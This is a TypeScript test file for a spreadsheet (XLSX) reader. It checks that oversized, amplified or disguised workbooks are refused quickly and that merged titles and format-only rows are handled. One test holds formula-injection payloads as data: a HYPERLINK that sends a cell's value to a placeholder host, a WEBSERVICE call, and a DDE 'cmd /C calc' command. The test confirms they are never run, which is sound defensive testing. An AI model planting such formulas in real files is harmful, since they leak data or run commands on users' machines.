import { strToU8, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { sheetEnd, sheetPart, sheetStart, workbookParts } from '@/lib/domain/shared/workbook';
import { readWorkbook } from './read-workbook';

const words = (text: string) => `<si><t>${text}</t></si>`;
function aWorkbook(rows: string, shared = '', after = ''): Uint8Array {
  const parts = {
    ...workbookParts,
    [sheetPart]: sheetStart + rows + sheetEnd.replace('</sheetData>', `</sheetData>${after}`),
  };
  const files = Object.entries(parts).map(([name, text]): [string, Uint8Array] => [name, strToU8(text)]);
  const sst = `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${shared}</sst>`;
  const rels = workbookParts['xl/_rels/workbook.xml.rels'] ?? '';
  const relation =
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>';
  const more = shared && {
    'xl/sharedStrings.xml': strToU8(sst),
    'xl/_rels/workbook.xml.rels': strToU8(rels.replace('</Relationships>', `${relation}</Relationships>`)),
  };
  return zipSync({ ...Object.fromEntries(files), ...(more || {}) });
}
const cell = (place: string) => `<c r="${place}"><v>1</v></c>`;
const first = `<row r="1">${cell('A1')}</row>`;

test.each([
  ['the last column', `<row r="1">${cell('A1')}${cell('XFD1')}</row>`],
  ['the last cell', `${first}<row r="1048576">${cell('XFD1048576')}</row>`],
  ['a far row of cells alone', `${first}<row>${cell('A1048576')}</row>`],
  ['a column that no sheet has', `<row r="1">${cell('ZZZZZZZ1')}</row>`],
  ['a number of another kind', `${first}<row r="1e9">${cell('A2')}</row>`],
  ['no end', `${first}<row r="Infinity">${cell('A2')}</row>`],
  ['a disguised place', `<row r="1"><c r = '&#88;FD1'><v>1</v></c></row>`],
])('a small file whose sheet has %s is refused quickly', async (_, rows) => {
  const before = process.cpuUsage();
  expect(await readWorkbook(aWorkbook(rows))).toBeNull();
  const { user, system } = process.cpuUsage(before);
  // Processor time, which other work on the machine does not lengthen.
  expect((user + system) / 1_000).toBeLessThan(500);
});

test('a workbook whose sheet is in another part is refused', async () => {
  const rels = (workbookParts['xl/_rels/workbook.xml.rels'] ?? '').replace('worksheets/sheet1', 'other');
  const parts = { ...workbookParts, 'xl/_rels/workbook.xml.rels': rels };
  const other = (place: string) => `${sheetStart}${first}<row r="2">${cell(place)}</row>${sheetEnd}`;
  const files = (place: string) => Object.entries({ ...parts, 'xl/other.xml': other(place) });
  const made = (place: string) =>
    zipSync(Object.fromEntries(files(place).map(([name, text]) => [name, strToU8(text)])));
  expect(await readWorkbook(made('B2'))).toHaveLength(2);
  expect(await readWorkbook(made('XFD2'))).toBeNull();
});

test('a long text shown in every cell counts in every cell, and is refused', async () => {
  const long = words('x'.repeat(1024 * 1024));
  const rows = (count: number) =>
    Array.from({ length: count }, (_, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="s"><v>0</v></c></row>`);
  expect(await readWorkbook(aWorkbook(rows(3).join(''), long))).toHaveLength(3);
  expect(await readWorkbook(aWorkbook(rows(40).join(''), long))).toBeNull();
});

test('rows and cells with only a format do not count', async () => {
  const format = '<row r="1048575" s="3" ht="12.8"/><row r="1048576" s="3"><c r="XFD1048576" s="3"/></row>';
  const read = await readWorkbook(aWorkbook(`${first}<row r="3">${cell('B3')}</row>${format}`));
  expect(read?.map(({ lineNo, fields }) => [lineNo, ...fields])).toEqual([
    [1, '1', ''],
    [2, '', ''],
    [3, '', '1'],
  ]);
});

test('a hundred thousand rows are refused', async () => {
  const rows = Array.from({ length: 100_000 }, (_, at) => `<row r="${at + 1}">${cell(`A${at + 1}`)}</row>`);
  expect(await readWorkbook(aWorkbook(rows.join('')))).toBeNull();
});

test('a formula has its last shown value, and is never run', async () => {
  const formulas = [
    '<c r="A1" t="str"><f>HYPERLINK("http://x.example/"&amp;B1,"7")</f><v>7</v></c>',
    '<c r="B1"><f>WEBSERVICE("http://x.example")</f></c>',
    '<c r="C1" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
    '<c r="D1" t="str"><f>cmd|\' /C calc\'!A0</f><v>=cmd</v></c>',
  ];
  const read = await readWorkbook(aWorkbook(`<row r="1">${formulas.join('')}</row>`));
  expect(read?.[0]?.fields).toEqual(['7', '', '', '=cmd']);
});

test('a title over merged cells does not move the cells below it', async () => {
  const text = (place: string, value: string) => `<c r="${place}" t="inlineStr"><is><t>${value}</t></is></c>`;
  const rows = [
    `<row r="1">${text('A1', '출력 결과')}</row>`,
    `<row r="2">${text('A2', '주문번호')}${text('B2', '운송장번호')}</row>`,
    `<row r="3">${text('A3', '1')}${text('B3', '2')}</row>`,
  ];
  const merged = aWorkbook(rows.join(''), '', '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>');
  expect((await readWorkbook(merged))?.map(({ fields }) => fields)).toEqual([
    ['출력 결과', ''],
    ['주문번호', '운송장번호'],
    ['1', '2'],
  ]);
});
